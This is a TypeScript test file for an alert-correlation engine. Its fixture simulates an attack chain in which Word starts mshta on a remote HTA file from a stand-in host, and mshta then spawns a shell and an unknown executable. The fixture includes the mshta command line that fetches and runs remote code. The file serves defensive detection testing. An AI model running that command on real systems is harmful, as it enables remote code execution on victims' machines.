import { describe, expect, it } from 'vitest';
import { CMD, callsOut, catalogue, digest, MSHTA, OUTLOOK, storyOf, WORD } from '../analytics/testStory';
import { correlateHost } from './correlate';

/** Word starts mshta on a remote HTA, which starts a shell; Outlook runs beside it. */
function told() {
  const { s } = storyOf();
  const outlook = s.starts(OUTLOOK);
  const word = s.starts(WORD);
  const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/view.hta` });
  s.after('1s');
  callsOut(s, mshta);
  const shell = s.starts(CMD, { parent: mshta });
  s.after('1s');
  const below = s.starts('C:\\Users\\j.doe\\x.exe', { parent: shell });
  return { s, outlook, word, mshta, shell, below };
}

const alertsIn = (s: ReturnType<typeof told>['s']) =>
  correlateHost({ host: s.host, events: s.events(), catalogue, digest });

describe('explainAlerts', () => {
  it('finds the chain of an alert on a process of it, or below one that it saw starting', () => {
    const { s, mshta, below } = told();
    s.alerts(mshta, 'Suspicious mshta');
    s.alerts(below, 'Unknown program');
    const { alerts, findings } = alertsIn(s);
    expect(alerts.map(({ rule, finding }) => [rule, finding])).toEqual([
      ['Suspicious mshta', findings[0]?.id],
      ['Unknown program', findings[0]?.id],
    ]);
  });

  it('leaves an alert on another process, or long after, unexplained', () => {
    const { s, outlook, mshta } = told();
    s.alerts(outlook, 'Phishing mail');
    s.after('3d');
    s.alerts(mshta, 'Late');
    expect(alertsIn(s).alerts.map(({ rule, finding }) => [rule, finding])).toEqual([
      ['Phishing mail', undefined],
      ['Late', undefined],
    ]);
  });

  it('keeps what the vendor says: rule, product, process, and its own id where there is one', () => {
    const { s, mshta } = told();
    s.tells('alert', mshta, { 'rule.name': 'R', 'event.id': 'vendor-7', 'event.severity': 73 });
    expect(alertsIn(s).alerts[0]).toMatchObject({
      alert: 'vendor-7',
      rule: 'R',
      severity: 73,
      product: 'Windows event log',
      entityId: mshta.entityId,
      subject: MSHTA,
    });
  });
});
